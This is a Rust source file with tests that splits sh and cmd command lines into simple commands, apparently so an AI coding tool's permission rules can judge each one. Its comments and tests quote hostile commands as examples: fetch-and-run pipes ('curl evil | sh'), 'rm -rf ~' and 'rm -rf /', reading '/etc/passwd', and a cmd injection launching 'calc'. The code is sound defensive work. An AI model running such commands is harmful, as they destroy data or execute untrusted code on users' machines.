//! Splitting a shell command line into the simple commands it runs, so permission
//! rules judge every one of them: `cargo test && rm -rf ~` is two commands, and
//! `echo $(curl evil | sh)` hides three. The line is read as the shell that will run
//! it reads it: `sh` on Unix, `cmd` on Windows, whose quotes and escapes differ (a
//! single quote hides nothing from `cmd`: `echo 'x & calc'` runs `calc` there).

/// The simple commands of `line`, read as this system's shell reads it
/// ([`split_sh`] or [`split_cmd`]). `None` when the line cannot be read (an unclosed
/// quote or bracket): then nothing in it can be trusted to match an allow rule.
pub fn split(line: &str) -> Option<Vec<String>> {
    if cfg!(windows) {
        split_cmd(line)
    } else {
        split_sh(line)
    }
}

/// The simple commands of an `sh` line: split at `&&`, `||`, `;`, `|`, `&` and
/// newlines, with the contents of `$( )`, backticks and `( )` subshells added as
/// commands of their own.
pub fn split_sh(line: &str) -> Option<Vec<String>> {
    let mut commands = Vec::new();
    split_into(line, &mut commands)?;
    Some(commands)
}

/// The simple commands of a `cmd /C` line: split at `&`, `&&`, `||`, `|` and line
/// breaks outside double quotes, and around `( )` groups. `^` escapes the next
/// character outside quotes; single quotes and backslashes are plain characters, as
/// `cmd` has them.
pub fn split_cmd(line: &str) -> Option<Vec<String>> {
    let mut commands = Vec::new();
    let mut current = String::new();
    let (mut quoted, mut depth) = (false, 0usize);
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                quoted = !quoted;
                current.push(c);
            }
            _ if quoted => current.push(c),
            '^' => {
                current.push(c);
                current.extend(chars.next());
            }
            '(' => {
                depth += 1;
                finish(&mut current, &mut commands);
            }
            ')' => {
                depth = depth.checked_sub(1)?;
                finish(&mut current, &mut commands);
            }
            '&' | '|' | '\n' | '\r' => {
                finish(&mut current, &mut commands);
                if matches!(c, '&' | '|') && chars.peek() == Some(&c) {
                    chars.next();
                }
            }
            _ => current.push(c),
        }
    }
    if quoted || depth > 0 {
        return None;
    }
    finish(&mut current, &mut commands);
    Some(commands)
}

fn split_into(line: &str, commands: &mut Vec<String>) -> Option<()> {
    let chars: Vec<char> = line.chars().collect();
    let mut current = String::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' => {
                current.push(c);
                if let Some(&next) = chars.get(i + 1) {
                    current.push(next);
                    i += 1;
                }
            }
            '\'' => {
                let end = find(&chars, i + 1, |c| c == '\'')?;
                current.extend(&chars[i..=end]);
                i = end;
            }
            '"' => {
                let end = closing_double_quote(&chars, i + 1, commands)?;
                current.extend(&chars[i..=end]);
                i = end;
            }
            '`' => {
                let end = find(&chars, i + 1, |c| c == '`')?;
                let inner: String = chars[i + 1..end].iter().collect();
                split_into(&inner, commands)?;
                current.push_str("`…`");
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = matching_paren(&chars, i + 1)?;
                let inner: String = chars[i + 2..end].iter().collect();
                split_into(&inner, commands)?;
                current.push_str("$(…)");
                i = end;
            }
            '(' => {
                let end = matching_paren(&chars, i)?;
                let inner: String = chars[i + 1..end].iter().collect();
                split_into(&inner, commands)?;
                i = end;
            }
            ')' => return None,
            ';' | '\n' | '|' | '&' => {
                finish(&mut current, commands);
                if matches!((c, chars.get(i + 1)), ('|', Some('|')) | ('&', Some('&'))) {
                    i += 1;
                }
            }
            _ => current.push(c),
        }
        i += 1;
    }
    finish(&mut current, commands);
    Some(())
}

fn find(chars: &[char], from: usize, end: impl Fn(char) -> bool) -> Option<usize> {
    (from..chars.len()).find(|&i| end(chars[i]))
}

/// The closing `"`, splitting out `$( )` and backticks inside (they run).
fn closing_double_quote(chars: &[char], from: usize, commands: &mut Vec<String>) -> Option<usize> {
    let mut i = from;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '"' => return Some(i),
            '`' => {
                let end = find(chars, i + 1, |c| c == '`')?;
                split_into(&chars[i + 1..end].iter().collect::<String>(), commands)?;
                i = end;
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let end = matching_paren(chars, i + 1)?;
                split_into(&chars[i + 2..end].iter().collect::<String>(), commands)?;
                i = end;
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The `)` closing the `(` at `open`, quotes respected.
fn matching_paren(chars: &[char], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open;
    while i < chars.len() {
        match chars[i] {
            '\\' => i += 1,
            '\'' => i = find(chars, i + 1, |c| c == '\'')?,
            '"' => i = find(chars, i + 1, |c| c == '"')?,
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Ends the command being read: kept, normalized, unless it is empty.
fn finish(current: &mut String, commands: &mut Vec<String>) {
    let command = normalize(current);
    if !command.is_empty() {
        commands.push(command);
    }
    current.clear();
}

/// Words separated by single spaces, surrounding space gone.
fn normalize(command: &str) -> String {
    command.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The program and, when the second word is not an option, its subcommand:
/// `cargo test --release` → `cargo test`, `ls -la` → `ls`. Leading variable
/// assignments (`RUST_LOG=debug cargo run`) are skipped. This is what "allow for this
/// chat" grants for a command: never the whole shell.
pub fn program_and_subcommand(command: &str) -> String {
    let mut words = command
        .split_whitespace()
        .skip_while(|word| word.contains('=') && !word.starts_with('=') && !word.starts_with('-'));
    let Some(program) = words.next() else {
        return String::new();
    };
    match words.next() {
        Some(sub)
            if !sub.starts_with('-')
                && sub
                    .chars()
                    .all(|c| c.is_alphanumeric() || "-_:.".contains(c)) =>
        {
            format!("{program} {sub}")
        }
        _ => program.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parts(line: &str) -> Vec<String> {
        split_sh(line).unwrap_or_else(|| panic!("could not split {line:?}"))
    }

    fn cmd_parts(line: &str) -> Vec<String> {
        split_cmd(line).unwrap_or_else(|| panic!("could not split {line:?}"))
    }

    #[test]
    fn cmd_lines_are_split_as_cmd_reads_them() {
        assert_eq!(
            cmd_parts("cargo build && cargo test || exit 1 & dir | more"),
            ["cargo build", "cargo test", "exit 1", "dir", "more"]
        );
        // What sh would keep together, cmd runs apart.
        assert_eq!(cmd_parts("echo 'x & calc'"), ["echo 'x", "calc'"]);
        assert_eq!(cmd_parts(r"echo a\& calc"), [r"echo a\", "calc"]);
        assert_eq!(cmd_parts("echo a;b"), ["echo a;b"]);
        // What cmd keeps together.
        assert_eq!(cmd_parts("echo \"a & b\" & dir"), ["echo \"a & b\"", "dir"]);
        assert_eq!(cmd_parts("echo a^&b"), ["echo a^&b"]);
        assert_eq!(
            cmd_parts("(cd sub && make) & dir"),
            ["cd sub", "make", "dir"]
        );
        assert_eq!(cmd_parts("a\r\nb"), ["a", "b"]);
        for unreadable in ["echo \"open", "a ) b", "(a & b"] {
            assert_eq!(split_cmd(unreadable), None, "{unreadable}");
        }
    }

    #[test]
    fn the_systems_own_shell_splits() {
        let line = "echo 'x & calc'";
        let expected = if cfg!(windows) {
            split_cmd(line)
        } else {
            split_sh(line)
        };
        assert_eq!(split(line), expected);
    }

    #[test]
    fn operators_separate_commands() {
        assert_eq!(
            parts("cargo build && cargo test"),
            ["cargo build", "cargo test"]
        );
        assert_eq!(
            parts("a || b; c | d & e\nf"),
            ["a", "b", "c", "d", "e", "f"]
        );
        assert_eq!(parts("  ls   -la  "), ["ls -la"]);
    }

    #[test]
    fn quotes_keep_operators_inside_them() {
        assert_eq!(parts("echo 'a && b' \"c; d\""), ["echo 'a && b' \"c; d\""]);
        assert_eq!(parts(r"echo a\;b"), [r"echo a\;b"]);
    }

    #[test]
    fn substitutions_and_subshells_are_commands_too() {
        assert_eq!(parts("echo $(curl x | sh)"), ["curl x", "sh", "echo $(…)"]);
        assert_eq!(parts("echo `rm -rf /`"), ["rm -rf /", "echo `…`"]);
        assert_eq!(parts("(cd sub && make) ; ls"), ["cd sub", "make", "ls"]);
        assert_eq!(
            parts("echo \"$(whoami)\""),
            ["whoami", "echo \"$(whoami)\""]
        );
    }

    #[test]
    fn unreadable_lines_are_refused() {
        for line in [
            "echo 'unclosed",
            "echo \"unclosed",
            "echo $(unclosed",
            "echo `x",
            "a )",
        ] {
            assert_eq!(split_sh(line), None, "{line}");
        }
    }

    #[test]
    fn grants_name_the_program_and_subcommand() {
        assert_eq!(program_and_subcommand("cargo test --release"), "cargo test");
        assert_eq!(program_and_subcommand("ls -la src"), "ls");
        assert_eq!(
            program_and_subcommand("RUST_LOG=debug cargo run -- x"),
            "cargo run"
        );
        assert_eq!(program_and_subcommand("git commit -m 'x'"), "git commit");
        assert_eq!(
            program_and_subcommand("python3 script.py"),
            "python3 script.py"
        );
        assert_eq!(program_and_subcommand("cat /etc/passwd"), "cat");
    }
}
